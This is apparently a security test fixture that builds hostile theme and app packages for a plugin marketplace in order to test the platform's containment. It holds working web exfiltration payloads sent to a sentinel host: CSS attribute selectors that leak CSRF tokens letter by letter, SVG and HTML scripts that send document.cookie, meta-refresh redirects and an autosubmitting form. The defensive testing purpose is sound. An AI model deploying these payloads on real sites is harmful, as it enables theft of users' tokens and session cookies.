import { writePackage } from '#modules/catalog/packages/write-package.ts'
import { attacks, type Targets } from './attacks.ts'

/**
 * What an attacker would hand in: a theme that has style and files only, and an app that has
 * scripts; the last one goes away at once, without a script.
 */
export const HOSTILE = {
  theme: 'hostile-theme',
  app: 'hostile-app',
  leaver: 'hostile-leaver',
} as const
const VERSION = '1.0.0'

const words = (en: string) => ({ en })
const common = (prefix: string) => ({
  format: 1,
  prefix,
  version: VERSION,
  name: words(prefix),
  compatibility: { platforms: { 1: '*' } },
})

/**
 * A stylesheet that tells what it sees, letter by letter, and loads what it can from its master.
 */
function leakingStyle(sentinel: string): string {
  const letters = [...'abcdefghijklmnopqrstuvwxyz0123456789'].flatMap((letter) =>
    ['csrf', 'token', 'store', 'q'].map(
      (name) =>
        `input[name="${name}"][value^="${letter}"]{background:url("${sentinel}/css-${name}-${letter}")}`,
    ),
  )
  return [
    `@import url("${sentinel}/css-import.css");`,
    `@font-face{font-family:spy;src:url("${sentinel}/css-font.woff2")}`,
    `@namespace url("${sentinel}/ns");`,
    `html{background:url("${sentinel}/css-html")} body{font-family:spy;background:#204060 image-set(url("${sentinel}/css-set") 1x)}`,
    `body::before{content:url("${sentinel}/css-content")} a:visited{background:url("${sentinel}/css-visited")} *{cursor:url("${sentinel}/css-cursor"),auto}`,
    `.navbar{background:#c02040 url("drawing.svg")!important;mask:url("${sentinel}/css-mask#m");filter:url("${sentinel}/css-filter#f");shape-outside:url("${sentinel}/css-shape")}`,
    ...letters,
  ].join('\n')
}

const drawing = (
  sentinel: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${sentinel}/svg-onload')">
<script>fetch('${sentinel}/svg-script?'+document.cookie)</script><image xlink:href="${sentinel}/svg-image"/><use href="${sentinel}/svg-use#x"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${sentinel}/svg-frame"></iframe></foreignObject></svg>`

const page = (sentinel: string) =>
  `<!doctype html><meta http-equiv="refresh" content="0;url=${sentinel}/file-refresh"><script>fetch('${sentinel}/file-script?'+document.cookie)</script><img src="${sentinel}/file-image">`

/** Files that are no pages and would like to be. */
const extras = (sentinel: string) => [
  { path: 'drawing.svg', bytes: Buffer.from(drawing(sentinel)) },
  { path: 'page.html', bytes: Buffer.from(page(sentinel)) },
  { path: 'x.js', bytes: Buffer.from(`fetch('${sentinel}/worker-file')`) },
]

export async function hostileTheme({ sentinel }: Targets): Promise<Buffer> {
  const css = Buffer.from(leakingStyle(sentinel))
  const manifest = {
    kind: 'theme',
    ...common(HOSTILE.theme),
    stylesheet: 'a.css',
    stylesheet_rtl: 'a.css',
    settings: {},
    swatches: ['#204060'],
    pages: ['home'],
    os2: true,
    title: words('x'),
    summary: words('x'),
  }
  return writePackage([
    { path: 'arasta.theme.json', bytes: Buffer.from(JSON.stringify(manifest)) },
    { path: 'a.css', bytes: css },
    ...extras(sentinel),
  ])
}

/** Markup that needs no script to get out, and the script. */
const markup = (
  sentinel: string,
) => `<base href="${sentinel}/"><link rel="stylesheet" href="${sentinel}/link.css"><link rel="dns-prefetch" href="${sentinel}">
<img src="${sentinel}/image" srcset="${sentinel}/srcset 2x" onerror="fetch('${sentinel}/onerror')"><iframe src="${sentinel}/frame"></iframe><iframe srcdoc="&lt;script&gt;fetch('${sentinel}/srcdoc')&lt;/script&gt;&lt;img src='${sentinel}/srcdoc-image'&gt;"></iframe>
<object data="${sentinel}/object"></object><embed src="${sentinel}/embed"><video poster="${sentinel}/poster" src="${sentinel}/video"></video><svg><script href="${sentinel}/svg.js"></script><image href="${sentinel}/svg-image"/></svg>
<script src="${sentinel}/outside.js"></script><script nonce="{{csp:nonce}}" src="${sentinel}/outside-with-nonce.js"></script><script type="speculationrules" nonce="{{csp:nonce}}">{"prefetch":[{"urls":["${sentinel}/speculation"]}],"prerender":[{"urls":["${sentinel}/prerender"]}]}</script>
<form action="${sentinel}/form" method="post"><button autofocus onfocus="this.form.submit()">x</button></form><script src="{{asset:tricks.js}}" nonce="{{csp:nonce}}"></script>`

const part = (id: string, placement: number, html: string) => ({
  id,
  placement,
  title: words(id),
  summary: words(id),
  html,
})
const appManifest = (prefix: string, html: string) =>
  Buffer.from(
    JSON.stringify({
      kind: 'app',
      ...common(prefix),
      permissions: [{ code: 'tracking_code', required: true, reason: words('x') }],
      tracking_codes: [part('foot', 3, html)],
    }),
  )

export const hostileApp = (aims: Targets): Promise<Buffer> =>
  writePackage([
    { path: 'arasta.app.json', bytes: appManifest(HOSTILE.app, markup(aims.sentinel)) },
    { path: 'tricks.js', bytes: Buffer.from(`(${attacks.toString()})(${JSON.stringify(aims)})`) },
    ...extras(aims.sentinel),
  ])

export const hostileLeaver = ({ sentinel }: Targets): Promise<Buffer> =>
  writePackage([
    {
      path: 'arasta.app.json',
      bytes: appManifest(
        HOSTILE.leaver,
        `<meta http-equiv="refresh" content="0;url=${sentinel}/refresh">`,
      ),
    },
  ])

export { VERSION as HOSTILE_VERSION }
